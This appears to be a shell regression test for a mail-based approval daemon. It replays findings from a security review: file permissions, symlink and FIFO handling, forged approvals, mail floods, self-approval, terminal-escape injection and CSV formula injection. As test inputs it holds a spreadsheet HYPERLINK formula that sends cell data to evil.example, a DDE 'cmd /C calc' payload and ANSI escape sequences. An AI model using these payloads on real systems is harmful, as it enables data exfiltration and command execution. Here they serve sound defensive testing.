#!/bin/sh
# The outside security review (findings 1, 2, 4-8 of the issue "Safe by
# default"), each as the reviewer reproduced it end to end, now refused: a
# private store, Maildir entries that are not mail files, one APPROVE for
# one role, floods, CSV formulas, self-approval, terminal escapes. TAP output.
. "${top_srcdir:-$(dirname "$0")/..}/tests/lib.sh"
T=$(mktemp -d /tmp/cgen-sec.XXXXXX)
trap 'kill "$daemon" 2>/dev/null; rm -rf "$T"' EXIT
SQLITE3=${SQLITE3:-$(command -v sqlite3)}
ESC=$(printf '\033')
# no_esc FILE...: no raw ESC byte in the files
no_esc() { ! cat "$@" | grep -q "$ESC"; }
# lacks PATTERN FILE...: no line of the files matches
lacks() { _p=$1; shift; ! grep -q -- "$_p" "$@"; }
approvals() { ctl "$1" show "$2" --json | sed -n 's/.*"approvals":{"aio":"\([a-z]*\)","cio":"\([a-z]*\)"}.*/\1 \2/p'; }
ncases() { ctl "$1" list --json | grep -o '"id"' | wc -l | tr -d ' '; }
mode() { stat -c %a "$1" 2>/dev/null; }
# wait_for SECONDS COMMAND...: until the command succeeds (1 on timeout)
wait_for() {
	_n=$(($1 * 10)); shift
	while [ $_n -gt 0 ]; do "$@" >/dev/null 2>&1 && return 0; sleep 0.1; _n=$((_n - 1)); done
	return 1
}

# --- 1. The store and every file the agent writes are private (f1) ---
A=$T/f1
mkdir -p "$A"
chmod o+x "$T" "$A" # so that another user could reach the files, as in /var/lib
(
	umask 022
	setup_agent "$A"
	request_mail "Dana <dana@water.ca.gov>" one r1@water.ca.gov DWR | deliver "$A" r1
	printf 'garbage without a header' | deliver "$A" g1
	sed -i 's/^\[mailbox\]$/[mailbox]\npoll_interval = 1/' "$A/cgen.conf"
	"$CGEND" -c "$A/cgen.conf" --foreground --now 2026-11-26T17:00:00Z 2>>"$A/cgend.log" &
	echo $! >"$A/pid"
)
daemon=$(cat "$A/pid")
wait_for 30 sh -c "[ \$(ls '$A/outbox/new' | wc -l) -ge 3 ]"
wait_for 10 test -e "$A/cgen.db-wal"
is "store 0600 under umask 022" "$(mode "$A/cgen.db")" 600
is "its -wal 0600" "$(mode "$A/cgen.db-wal")" 600
is "its -shm 0600" "$(mode "$A/cgen.db-shm")" 600
is "the daemon's lock 0600" "$(mode "$A/cgen.db.lock")" 600
is "the daemon's state file 0600" "$(mode "$A/cgen.db.state")" 600
# (the mails in the Maildir are the delivery agent's files: only moved)
is "the folders it makes and the mails it writes are private" \
	"$(find "$A/outbox" "$A/Maildir/.Quarantine" -mindepth 1 \( -type d -o -path '*/outbox/*' \) -perm /077 | wc -l | tr -d ' ')" 0
check "the quarantine folder was made (0700)" test "$(mode "$A/Maildir/.Quarantine")" = 700
kill -TERM "$daemon"
wait "$daemon" 2>/dev/null
daemon=
if [ "$(id -u)" = 0 ] && su nobody -s /bin/sh -c true 2>/dev/null; then
	su nobody -s /bin/sh -c "cat $A/cgen.db" >"$T/stolen" 2>/dev/null
	is "another local user cannot read the store" "$(wc -c <"$T/stolen" | tr -d ' ')" 0
else
	ok "# SKIP not root: no other user to try"
fi
if [ -n "$SQLITE3" ]; then
	# What a reader of the database finds in reply_keys is no key a mail can carry.
	"$SQLITE3" "$A/cgen.db" "SELECT key, role FROM reply_keys" >"$A/keys"
	refs=$(grep -h '^Ref: ' "$A"/outbox/new/*.eml | tr -d '\r' | sed 's/^Ref: //' | sort -u)
	is "the store keeps three reply keys" "$(wc -l <"$A/keys" | tr -d ' ')" 3
	leaked=0
	for k in $refs; do grep -q "$k" "$A/keys" && leaked=$((leaked + 1)); done
	is "none of them is a key that was mailed" "$leaked" 0
	kept=0
	for k in $refs; do
		kept=$((kept + $("$SQLITE3" "$A/cgen.db" "SELECT count(*) FROM outbox WHERE instr(CAST(data AS TEXT), '$k') > 0")))
	done
	is "the stored copies of the sent mails keep none either" "$kept" 0
	# The reviewer's attack: forged approvals with what the table holds.
	for r in aio cio; do
		k=$(awk -F'|' -v r=$r '$2 == r { sub(/^h:/, "", $1); print substr($1, 1, 26) }' "$A/keys")
		printf 'From: %s@water.ca.gov\nTo: cgen+%s@cdt.ca.gov\nSubject: Re: [CGEN-2026-0001] ok\nMessage-ID: <forged-%s@evil.example>\n\nAPPROVE\n' \
			$r "$k" $r | deliver "$A" forged-$r
	done
	run_agent "$A"
	is "forged approvals with the stored values: none counts" "$(approvals "$A" CGEN-2026-0001)" "pending pending"
else
	ok "# SKIP sqlite3 command-line tool not installed"
	ok "# SKIP sqlite3 command-line tool not installed"
	ok "# SKIP sqlite3 command-line tool not installed"
fi
chmod 644 "$A/cgen.db"
"$CGEND" -c "$A/cgen.conf" --once --foreground 2>"$A/refused.log"
is "a store others can read: cgend refuses (78)" "$?" 78
check "  and says which chmod to run" grep -q "chmod 600 $A/cgen.db" "$A/refused.log"
ctl "$A" list >/dev/null 2>"$A/refused2.log"
is "  so does cgenctl (1)" "$?" 1
check "  with the same advice" grep -q "chmod 600" "$A/refused2.log"
chmod 600 "$A/cgen.db"

# --- 2. Maildir entries that are not mail files (f7, f8), SIGTERM ---
B=$T/f7
mkdir -p "$B"
setup_agent "$B"
echo "TOP-SECRET-$(od -An -N8 -tx1 /dev/urandom | tr -d ' \n')" >"$B/private"
chmod 600 "$B/private"
ln -s "$B/private" "$B/Maildir/new/1.evil"
mkfifo "$B/Maildir/new/2.fifo"
request_mail "Dana <dana@water.ca.gov>" one r1@water.ca.gov DWR | deliver "$B" 3.r1
tick "$B"
timeout -k 5 20 "$CGEND" -c "$B/cgen.conf" --once --foreground --now "$(clock "$B")" 2>>"$B/cgend.log"
is "a FIFO and a symbolic link in new/: the run ends (exit 0)" "$?" 0
is "the mail after them opened its case" "$(ncases "$B")" 1
check "the link was not followed: its target is nowhere in the store" lacks "$(cat "$B/private")" "$B/cgen.db"
check "the link itself is quarantined, still a link" test -L "$B/Maildir/.Quarantine/cur/1.evil:2,S"
check "the FIFO is quarantined" test -p "$B/Maildir/.Quarantine/cur/2.fifo:2,S"
ctl "$B" queue >"$B/queue"
check "queue: the symbolic link, with the reason" grep -q 'a symbolic link in the Maildir, not a mail file' "$B/queue"
check "queue: the FIFO" grep -q 'a FIFO in the Maildir' "$B/queue"
check "a log line names the link" grep -q '1.evil is a symbolic link' "$B/cgend.log"
check "  and the FIFO" grep -q '2.fifo is a FIFO' "$B/cgend.log"

# SIGTERM ends a run at once: the mail in hand is finished, the rest waits.
C=$T/term
mkdir -p "$C"
setup_agent "$C"
i=0
while [ $i -lt 1500 ]; do
	printf 'From: s%d@example.org\nTo: cgen@cdt.ca.gov\nSubject: hi %d\nMessage-ID: <t%d@example.org>\n\nhello\n' $i $i $i >"$C/Maildir/new/m$i"
	i=$((i + 1))
done
tick "$C"
n0=$(wc -l <"$C/cgend.log" 2>/dev/null || echo 0)
"$CGEND" -c "$C/cgen.conf" --once --foreground --now "$(clock "$C")" 2>>"$C/cgend.log" &
pid=$!
wait_for 60 sh -c "tail -n +$((n0 + 1)) '$C/cgend.log' | grep -q 'mail m.* from s'"
kill -TERM $pid
t0=$(date +%s)
wait $pid
rc=$?
t1=$(date +%s)
is "SIGTERM during a run: exit 0" "$rc" 0
check "within 5 seconds" test $((t1 - t0)) -le 5
left=$(ls "$C/Maildir/new" | wc -l | tr -d ' ')
check "the mails not reached are left unread ($left)" test "$left" -gt 0
run_agent "$C"
is "the next run handles the rest" "$(ls "$C/Maildir/cur" | grep -c ':2,S$')/$(ls "$C/Maildir/new" | wc -l | tr -d ' ')" "1500/0"
if [ -n "$SQLITE3" ]; then
	is "  each mail stored once" "$("$SQLITE3" "$C/cgen.db" 'SELECT count(*), count(DISTINCT dedup_id) FROM messages')" "1500|1500"
else
	ok "# SKIP sqlite3 command-line tool not installed"
fi

# --- 4. One APPROVE, two roles (f5) ---
D=$T/f5
mkdir -p "$D"
setup_agent "$D"
cat >"$D/entities.csv" <<'CSV'
code,name,domains,aio,cio,aio_delegates,cio_delegates,exempt
DWR,Department of Water Resources,water.ca.gov,aio@water.ca.gov,cio@water.ca.gov,cio@water.ca.gov,,
CSV
ctl "$D" directory import "$D/entities.csv" >/dev/null
request_mail "Dana <dana@water.ca.gov>" one r1@water.ca.gov DWR | deliver "$D" r1
run_agent "$D"
reply "$D" c1 cio@water.ca.gov "$(last_mail_to "$D" cio@water.ca.gov)" APPROVE
run_agent "$D"
is "the CIO, also the AIO's delegate: one APPROVE is the CIO's only" "$(approvals "$D" CGEN-2026-0001)" "pending approved"
is "  the case still waits on the AIO" "$(case_state "$D" CGEN-2026-0001)" awaiting_approvals
reply "$D" a1 aio@water.ca.gov "$(last_mail_to "$D" aio@water.ca.gov)" APPROVE
run_agent "$D"
is "  the AIO's own APPROVE completes it" "$(case_state "$D" CGEN-2026-0001)" cdt_review

# --- 7. Self-approval (f4) ---
E=$T/f4
mkdir -p "$E"
setup_agent "$E"
request_mail "Chief <it.chief@chp.ca.gov>" "own request" s1@chp.ca.gov CHP | deliver "$E" s1
run_agent "$E"
reply "$E" s2 it.chief@chp.ca.gov "$(mails_to "$E" it.chief@chp.ca.gov | sed -n 2p)" APPROVE
run_agent "$E"
is "AIO = CIO = requester, default flag: recorded" "$(case_state "$E" CGEN-2026-0001)" cdt_review
body_of "$(last_mail_to "$E" review1@cdt.ca.gov)" >"$E/packet"
check "  CDT's review packet says so in bold" grep -q '^\*\*SELF-APPROVAL: the requester (it.chief@chp.ca.gov) is the only person' "$E/packet"
ctl "$E" show CGEN-2026-0001 --json >"$E/show"
check "  an event records it" grep -q '"kind":"self_approval"' "$E/show"
sed -i 's/^\[workflow\]$/[workflow]\nself_approval = refuse/' "$E/cgen.conf"
request_mail "Chief <it.chief@chp.ca.gov>" "second" s3@chp.ca.gov CHP | deliver "$E" s3
run_agent "$E"
reply "$E" s4 it.chief@chp.ca.gov "$(grep -l 'CGEN-2026-0002' $(mails_to "$E" it.chief@chp.ca.gov) | sed -n 2p)" APPROVE
run_agent "$E"
is "self_approval = refuse: the APPROVE does not count" "$(approvals "$E" CGEN-2026-0002)" "pending pending"
body_of "$(last_mail_to "$E" it.chief@chp.ca.gov)" >"$E/refusal"
check "  the requester is told why" grep -q 'your approval would be its only one' "$E/refusal"
ctl "$E" queue >"$E/queue"
check "  and the operator queue has it" grep -q 'self-approval of CGEN-2026-0002' "$E/queue"

# --- 5. Floods and backscatter (f6) ---
F=$T/f6
mkdir -p "$F"
setup_agent "$F"
sed -i 's/^secret_file = secret$/secret_file = secret\nanswer_limit = 10\ncase_open_limit = 5/' "$F/cgen.conf"
i=0
while [ $i -lt 20 ]; do
	request_mail "x$i <x$i@water.ca.gov>" "req $i" fl$i@evil.example DWR | deliver "$F" fl$i
	i=$((i + 1))
done
run_agent "$F"
is "20 forged requests in DWR's name: case_open_limit cases" "$(ncases "$F")" 5
is "  the AIO is mailed 5 times, not 20" "$(mails_to "$F" aio@water.ca.gov | wc -l | tr -d ' ')" 5
is "  the other 15 are queued" "$(ctl "$F" queue | grep -c 'case_open_limit')" 15
is "  and not answered" "$(mails_to "$F" x19@water.ca.gov | wc -l | tr -d ' ')" 0
i=0
while [ $i -lt 30 ]; do
	printf 'From: victim%d@example.org\nTo: cgen@cdt.ca.gov\nSubject: hi\nMessage-ID: <h%d@evil.example>\n\nhello\n' $i $i | deliver "$F" h$i
	i=$((i + 1))
done
n0=$(count_mails "$F")
run_agent "$F"
is "30 junk mails from forged senders: answer_limit answers" "$(($(count_mails "$F") - n0))" 10
is "  the rest recorded and queued" "$(ctl "$F" queue | grep -c 'answer limit')" 20
"$CGEND" -c "$F/cgen.conf" --check-config 2>"$F/check.log" >/dev/null
check "--check-config warns that require_auth_results is off" grep -q 'require_auth_results = no.*production setting is yes' "$F/check.log"
sed -i 's/^secret_file = secret$/secret_file = secret\nrequire_auth_results = yes\nauthserv_id = mx.cdt.ca.gov/' "$F/cgen.conf"
"$CGEND" -c "$F/cgen.conf" --check-config 2>"$F/check2.log" >/dev/null
check "  and not when it is on" lacks require_auth_results "$F/check2.log"

# --- 8. Terminal escapes (f9) ---
G=$T/f9
mkdir -p "$G"
setup_agent "$G"
printf 'From: eve\033[8m@evil.example\nTo: cgen@cdt.ca.gov\nSubject: =?utf-8?q?hello=1B]0;owned=07=1B[2J=1B[1;31mURGENT?=\nMessage-ID: <f9@evil.example>\n\nSTATUS CGEN-2026-0001\n' | deliver "$G" f9a
request_mail "Dana <dana@water.ca.gov>" "$(printf 'req \033[2J\033[31mFAKE')" r1@water.ca.gov DWR | deliver "$G" f9b
run_agent "$G"
check "no raw ESC in the daemon's log" no_esc "$G/cgend.log"
check "  it shows them as text" grep -qF 'eve\x1b[8m@evil.example' "$G/cgend.log"
ctl "$G" queue >"$G/queue"
ctl "$G" list >"$G/list"
ctl "$G" show CGEN-2026-0001 >"$G/show"
ctl "$G" queue --json >"$G/queue.json"
ctl "$G" show CGEN-2026-0001 --json >"$G/show.json"
check "no raw ESC in cgenctl queue" no_esc "$G/queue"
check "  nor in list, show" no_esc "$G/list" "$G/show"
check "  nor in queue --json and show --json" no_esc "$G/queue.json" "$G/show.json"
check "  the subject is shown as text" grep -qF 'req \x1b[2J\x1b[31mFAKE' "$G/show"
check "the address with control characters is never mailed" lacks 'X-Envelope-To: <eve' /dev/null "$G"/outbox/new/*
check "  its mail is queued with the reason" grep -q 'From address is not a valid address' "$G/queue"

# --- 6. CSV formula injection (f10) ---
H=$T/f10
mkdir -p "$H"
setup_agent "$H"
request_mail "Dana <dana@water.ca.gov>" one r1@water.ca.gov DWR |
	sed 's/^Provider: .*/Provider: =HYPERLINK("https:\/\/evil.example\/?q="\&A1\&B1,"Comcast Business")/' | deliver "$H" r1
run_agent "$H"
grant_case "$H" g water.ca.gov "@SUM(1+1)*cmd|' /C calc'!A0"
is "the case is granted" "$(case_state "$H" CGEN-2026-0001)" granted
printf 'From: review1@cdt.ca.gov\nTo: cgen@cdt.ca.gov\nSubject: audit\nMessage-ID: <au@cdt.ca.gov>\n\nAUDIT DWR\n' | deliver "$H" au
run_agent "$H"
ctl "$H" export --granted "$H/export" >/dev/null
check "index.csv: the provider cell is text ('=...)" grep -qF "\"'=HYPERLINK(" "$H/export/index.csv"
check "index.csv: the conditions cell is text ('@...)" grep -qF "\"'@SUM(" "$H/export/index.csv"
tr -d '\r' <"$(last_mail_to "$H" review1@cdt.ca.gov)" |
	awk '/^Content-Type: text\/csv/ { on = 1 } on && /^$/ { b = 1; next } b && /^--/ { exit } b { print }' |
	base64 -d >"$H/audit.csv" 2>/dev/null
check "the AUDIT CSV: the provider cell is text" grep -qF "\"'=HYPERLINK(" "$H/audit.csv"
check "  and the conditions cell" grep -qF "\"'@SUM(" "$H/audit.csv"
check "no sanitizer report in any daemon log" lacks 'ERROR: AddressSanitizer\|runtime error' "$T"/*/cgend.log
tap_end
